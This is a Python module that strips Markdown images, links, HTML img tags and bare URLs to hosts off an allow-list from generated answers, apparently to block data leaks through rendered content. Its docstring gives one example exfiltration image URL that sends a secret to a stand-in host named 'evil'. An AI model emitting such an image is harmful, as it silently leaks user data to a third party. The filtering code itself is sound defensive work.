"""Outgoing Markdown images and links: only hosts on the allow-list survive in what Baton emits.

A Markdown image is fetched by whatever renders the answer, so a URL that carries data out (``![](https://evil
/?q=<secret>)``) leaks without anyone clicking; links are the same leak one click later. Both, and bare URLs, are
replaced by their text (or a placeholder) unless their host is allowed.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_REFERENCE = re.compile(r"^\s*\[[^\]]+\]:\s*(\S+).*$", re.MULTILINE)
# Any URL still in the text after the Markdown forms above: bare, in angle brackets, or in a broken "](url)".
_BARE_URL = re.compile(r"(?<!\w)(?:https?|ftp)://[^\s)>\]]+", re.IGNORECASE)
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower().rstrip(".")
    except ValueError:
        return ""


def host_allowed(url: str, allowed: frozenset[str]) -> bool:
    """A host is allowed when it, or a domain it belongs to, is on the list. Relative links are allowed."""
    if "://" not in url and not url.startswith("//"):
        return not url.lower().startswith(("data:", "javascript:"))
    host = _host(url if "://" in url else "http:" + url)
    return any(host == a or host.endswith("." + a) for a in allowed)


def strip_disallowed_links(text: str, allowed_hosts: Iterable[str]) -> tuple[str, list[str]]:
    """The text with every image, link and URL to a host off the list removed; and the URLs removed."""
    allowed = frozenset(h.lower().rstrip(".") for h in allowed_hosts)
    if "://" not in text and "](" not in text and "<img" not in text.lower():
        return text, []  # the common case: nothing that could point anywhere
    removed: list[str] = []

    def image(match: re.Match[str]) -> str:
        if host_allowed(match.group(2), allowed):
            return match.group(0)
        removed.append(match.group(2))
        return f"[image removed: {match.group(1)}]" if match.group(1) else "[image removed]"

    def link(match: re.Match[str]) -> str:
        if host_allowed(match.group(2), allowed):
            return match.group(0)
        removed.append(match.group(2))
        return match.group(1)

    def reference(match: re.Match[str]) -> str:
        if host_allowed(match.group(1), allowed):
            return match.group(0)
        removed.append(match.group(1))
        return ""

    def bare(match: re.Match[str]) -> str:
        if host_allowed(match.group(0), allowed):
            return match.group(0)
        removed.append(match.group(0))
        return "[link removed]"

    def html_image(match: re.Match[str]) -> str:
        removed.append(match.group(0)[:80])
        return "[image removed]"

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _REFERENCE.sub(reference, text)
    text = _HTML_IMG.sub(html_image, text)
    text = _BARE_URL.sub(bare, text)
    return text, removed
